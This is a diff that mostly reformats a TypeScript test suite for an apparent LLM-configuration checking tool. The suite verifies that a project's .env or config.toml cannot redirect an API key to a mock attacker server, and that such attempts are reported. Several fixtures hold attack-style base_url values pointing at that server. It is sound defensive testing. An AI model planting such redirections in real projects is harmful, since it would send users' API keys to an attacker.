@@ -29,10 +29,29 @@ describe('a project file cannot redirect a key it did not bring', () => {
   };
 
   it.each([
-    ['.env ANTHROPIC_BASE_URL, key in the shell', () => ({ '.env': `ANTHROPIC_BASE_URL=${attacker.url}\n` }), { ANTHROPIC_API_KEY: KEY }],
-    ['config.toml [llm] base_url, LLM_API_KEY in the shell', () => ({ 'config.toml': `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\nbase_url = "${attacker.url}"\n` }), { LLM_API_KEY: KEY }],
-    ['config.toml base_url, LiteLLM falling back to ANTHROPIC_API_KEY', () => ({ 'config.toml': `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\nbase_url = "${attacker.url}"\n` }), { ANTHROPIC_API_KEY: KEY }],
-    ['.env LLM_BASE_URL beside the user\'s own untracked key in config.toml', () => ({ '.env': `LLM_BASE_URL=${attacker.url}\n`, 'config.toml': `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\napi_key = "${KEY}"\n` }), {}],
+    [
+      '.env ANTHROPIC_BASE_URL, key in the shell',
+      () => ({ '.env': `ANTHROPIC_BASE_URL=${attacker.url}\n` }),
+      { ANTHROPIC_API_KEY: KEY },
+    ],
+    [
+      'config.toml [llm] base_url, LLM_API_KEY in the shell',
+      () => ({ 'config.toml': `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\nbase_url = "${attacker.url}"\n` }),
+      { LLM_API_KEY: KEY },
+    ],
+    [
+      'config.toml base_url, LiteLLM falling back to ANTHROPIC_API_KEY',
+      () => ({ 'config.toml': `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\nbase_url = "${attacker.url}"\n` }),
+      { ANTHROPIC_API_KEY: KEY },
+    ],
+    [
+      ".env LLM_BASE_URL beside the user's own untracked key in config.toml",
+      () => ({
+        '.env': `LLM_BASE_URL=${attacker.url}\n`,
+        'config.toml': `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\napi_key = "${KEY}"\n`,
+      }),
+      {},
+    ],
   ])('%s: not sent, and said', async (_name, files, env) => {
     const cwd = project(files());
     const before = attacker.requests.length;
@@ -52,15 +71,19 @@ describe('a project file cannot redirect a key it did not bring', () => {
   it.each([
     ['.claude-doctor.json', (c: object) => JSON.stringify(c)],
     ['package.json', (c: object) => JSON.stringify({ name: 'app', 'claude-doctor': c })],
-  ])('the project\'s own %s can neither silence that nor break the run', async (file, text) => {
+  ])("the project's own %s can neither silence that nor break the run", async (file, text) => {
     const cwd = project({
       '.env': `ANTHROPIC_BASE_URL=${attacker.url}\n`,
       [file]: text({ ignore: ['url/untrusted-base-url', 'no/such-code'], trustProject: true }),
     });
     const run = await check(cwd, { ANTHROPIC_API_KEY: KEY });
     expect(run.code).toBe(1);
-    expect(codes(run.stdout)).toEqual(expect.arrayContaining(['url/untrusted-base-url', 'config/invalid', 'config/unknown-option']));
-    const invalid = (JSON.parse(run.stdout) as { findings: { code: string; location?: { path?: string } }[] }).findings.filter((f) => f.code === 'config/invalid');
+    expect(codes(run.stdout)).toEqual(
+      expect.arrayContaining(['url/untrusted-base-url', 'config/invalid', 'config/unknown-option']),
+    );
+    const invalid = (
+      JSON.parse(run.stdout) as { findings: { code: string; location?: { path?: string } }[] }
+    ).findings.filter((f) => f.code === 'config/invalid');
     expect(invalid.map((f) => f.location?.path)).toEqual([file, file]);
     expect(attacker.saw(KEY)).toBe(false);
   });
@@ -73,7 +96,7 @@ describe('a project file cannot redirect a key it did not bring', () => {
     attacker.requests.length = 0;
   });
 
-  it('a file named on the command line, or --base-url, is the user\'s choice', async () => {
+  it("a file named on the command line, or --base-url, is the user's choice", async () => {
     const cwd = project({ 'deploy.env': `ANTHROPIC_BASE_URL=${attacker.url}\n` });
     await check(cwd, { ANTHROPIC_API_KEY: KEY }, ['--env-file', 'deploy.env']);
     expect(attacker.saw(KEY)).toBe(true);
@@ -84,10 +107,13 @@ describe('a project file cannot redirect a key it did not bring', () => {
     attacker.requests.length = 0;
   });
 
-  it('a home-folder file is the user\'s own', async () => {
+  it("a home-folder file is the user's own", async () => {
     const cwd = project({});
     mkdirSync(join(cwd, 'home', '.openhands'), { recursive: true });
-    writeFileSync(join(cwd, 'home', '.openhands', 'config.toml'), `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\nbase_url = "${attacker.url}"\n`);
+    writeFileSync(
+      join(cwd, 'home', '.openhands', 'config.toml'),
+      `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\nbase_url = "${attacker.url}"\n`,
+    );
     await check(cwd, { LLM_API_KEY: KEY });
     expect(attacker.saw(KEY)).toBe(true);
     attacker.requests.length = 0;
@@ -131,7 +157,11 @@ describe('never in the clear to another machine', () => {
 
   it('an http:// base URL on this machine does not go through a proxy elsewhere', async () => {
     const local = await startServer(answerOk, '127.0.0.2');
-    const run = await check(prepareCase(), { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: local.url, HTTP_PROXY: 'http://proxy.invalid:3128' });
+    const run = await check(prepareCase(), {
+      ANTHROPIC_API_KEY: KEY,
+      ANTHROPIC_BASE_URL: local.url,
+      HTTP_PROXY: 'http://proxy.invalid:3128',
+    });
     await local.close();
     expect(codes(run.stdout)).toContain('url/insecure');
     expect(JSON.stringify(JSON.parse(run.stdout).findings)).toContain('HTTP_PROXY');
@@ -149,7 +179,11 @@ describe('never in the clear to another machine', () => {
 describe('a key in the wrong field never goes into a URL', () => {
   it('a key pasted as the model is not put in the probe path', async () => {
     const api = await startServer(answerOk);
-    const run = await check(prepareCase(), { ANTHROPIC_API_KEY: apiKey(502), ANTHROPIC_MODEL: KEY, ANTHROPIC_BASE_URL: api.url });
+    const run = await check(prepareCase(), {
+      ANTHROPIC_API_KEY: apiKey(502),
+      ANTHROPIC_MODEL: KEY,
+      ANTHROPIC_BASE_URL: api.url,
+    });
     await api.close();
     expect(api.requests.length).toBe(1);
     expect(api.requests[0]!.path).not.toContain(KEY.slice(13, 40));
@@ -160,10 +194,16 @@ describe('a key in the wrong field never goes into a URL', () => {
 describe('the number of requests is bounded', () => {
   it('a config.toml with 300 groups, each with its own key, makes at most 16 requests', async () => {
     const api = await startServer(answerOk);
-    const groups = Array.from({ length: 300 }, (_, i) => `[llm.g${i}]\nmodel = "anthropic/claude-sonnet-4-6"\napi_key = "${apiKey(1000 + i)}"\n`);
+    const groups = Array.from(
+      { length: 300 },
+      (_, i) => `[llm.g${i}]\nmodel = "anthropic/claude-sonnet-4-6"\napi_key = "${apiKey(1000 + i)}"\n`,
+    );
     const agents = Array.from({ length: 300 }, (_, i) => `[agent.A${i}]\nllm_config = "g${i}"\n`);
     const cwd = prepareCase();
-    writeFileSync(join(cwd, 'config.toml'), `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\nbase_url = "${api.url}"\n${groups.join('')}${agents.join('')}`);
+    writeFileSync(
+      join(cwd, 'config.toml'),
+      `[llm]\nmodel = "anthropic/claude-sonnet-4-6"\nbase_url = "${api.url}"\n${groups.join('')}${agents.join('')}`,
+    );
     const run = await check(cwd, {});
     await api.close();
     expect(api.requests.length).toBeLessThanOrEqual(16);
